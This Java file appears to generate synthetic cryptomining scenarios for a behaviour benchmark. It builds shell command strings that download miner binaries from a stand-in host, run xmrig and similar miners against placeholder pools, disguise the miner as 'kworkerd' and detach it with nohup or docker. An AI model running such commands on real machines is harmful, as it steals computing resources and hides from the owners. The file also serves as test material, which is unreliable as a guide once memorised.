package dev.offscript.benchmarks.verdicts.acts;

import dev.offscript.benchmarks.verdicts.acts.Act.Contact;
import dev.offscript.benchmarks.verdicts.world.Dice;
import dev.offscript.benchmarks.verdicts.world.Part;
import dev.offscript.benchmarks.verdicts.world.Turn;
import dev.offscript.model.Behaviour;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/** Computing for a cryptocurrency. */
final class Miners {

  private Miners() {}

  static Act mining(Dice dice) {
    boolean named = dice.chance(70);
    String address = Places.address(dice);
    String host =
        named
            ? dice.any("pool", "xmr", "stratum", "eu1", "rx")
                + dice.between(1, 9)
                + ".example."
                + dice.any("net", "org", "com")
            : address;
    int port = dice.any(3333, 4444, 5555, 443, 14_433, 20_580);
    String pool = host + ":" + port;
    String tool =
        dice.any(
            "xmrig",
            "xmrig",
            "xmrig-config",
            "t-rex",
            "lolMiner",
            "nbminer",
            "cpuminer",
            "SRBMiner-MULTI",
            "renamed",
            "docker",
            "gminer");
    boolean processor =
        List.of("xmrig", "xmrig-config", "cpuminer", "SRBMiner-MULTI", "renamed", "docker")
            .contains(tool);
    String wallet = processor ? Places.monero(dice) : Places.ethereum(dice);
    Map<String, String> slots = new TreeMap<>();
    slots.put("pool", pool);
    slots.put("wallet", wallet);
    slots.put("coin", processor ? "Monero" : "Ethereum Classic");
    slots.put("host", host);
    slots.put("port", Integer.toString(port));
    slots.put("otherpool", "pool" + dice.between(10, 99) + ".example.org:" + dice.any(3333, 4444));
    slots.put("otherwallet", processor ? Places.monero(dice) : Places.ethereum(dice));
    List<Turn> before = new ArrayList<>();
    List<Turn> after = new ArrayList<>();
    if (dice.chance(50) && !tool.equals("docker")) {
      before.add(
          new Turn.Command(
              Part.ACQUISITION,
              "curl -sL https://dl.example.org/"
                  + (processor ? "xmrig-6.22.2-linux-static-x64" : tool + "-linux")
                  + ".tar.gz | tar xz -C /tmp",
              "",
              0,
              dice.fraction(1, 6)));
    }
    String line =
        switch (tool) {
          case "xmrig" ->
              "./xmrig -o "
                  + pool
                  + " -u "
                  + wallet
                  + " -p x --donate-level 1"
                  + dice.any("", " -B", " --cpu-max-threads-hint=75", " -k --tls");
          case "xmrig-config" -> {
            before.add(
                new Turn.Write(
                    Part.SETUP,
                    "/tmp/config.json",
                    "{\n  \"autosave\": true,\n  \"cpu\": true,\n  \"pools\": [\n    {\"url\": \""
                        + pool
                        + "\", \"user\": \""
                        + wallet
                        + "\", \"pass\": \"x\", \"keepalive\": true}\n  ]\n}\n"));
            yield "/tmp/xmrig --config=/tmp/config.json";
          }
          case "t-rex" ->
              "./t-rex -a etchash -o stratum+tcp://" + pool + " -u " + wallet + " -p x -w rig0";
          case "lolMiner" ->
              "./lolMiner --algo ETCHASH --pool " + pool + " --user " + wallet + ".rig0";
          case "nbminer" ->
              "./nbminer -a etchash -o stratum+ssl://" + pool + " -u " + wallet + ".w1";
          case "cpuminer" ->
              "minerd -a cryptonight -o stratum+tcp://" + pool + " -u " + wallet + " -p x";
          case "SRBMiner-MULTI" ->
              "./SRBMiner-MULTI --algorithm randomx --pool "
                  + pool
                  + " --wallet "
                  + wallet
                  + " --disable-gpu";
          case "renamed" -> {
            before.add(
                new Turn.Command(
                    Part.SETUP,
                    "cp /tmp/xmrig /usr/local/bin/kworkerd && chmod +x /usr/local/bin/kworkerd",
                    "",
                    0,
                    0.1));
            yield "/usr/local/bin/kworkerd -o " + pool + " -u " + wallet + " -k --coin monero -B";
          }
          case "docker" ->
              "docker run -d --name cache metal3d/xmrig -o " + pool + " -u " + wallet + " -p x -k";
          default -> "./miner --algo etchash --server " + pool + " --user " + wallet;
        };
    String shown = line;
    boolean detached = line.endsWith("-B") || tool.equals("docker");
    if (!detached && dice.chance(60)) {
      shown = "nohup " + line + " >/dev/null 2>&1 &";
      detached = true;
    }
    String program = List.of("renamed", "xmrig-config", "docker").contains(tool) ? "xmrig" : tool;
    slots.put("tool", program);
    String output =
        detached
            ? ""
            : "[2026] net      use pool "
                + pool
                + "  "
                + address
                + "\n[2026] cpu      accepted (1/0) diff 10000 (41 ms)";
    return new Act(
        Behaviour.MINING,
        "mining",
        program,
        host,
        port,
        slots,
        line,
        List.copyOf(before),
        new Turn.Command(Part.ACT, shown, output, 0, dice.fraction(0.5, 6), !detached),
        List.copyOf(after),
        List.of(
            new Contact(
                address,
                named ? host : "",
                port,
                dice.fraction(120, 2_400),
                dice.between(9_000, 90_000),
                dice.between(9_000, 90_000))));
  }
}
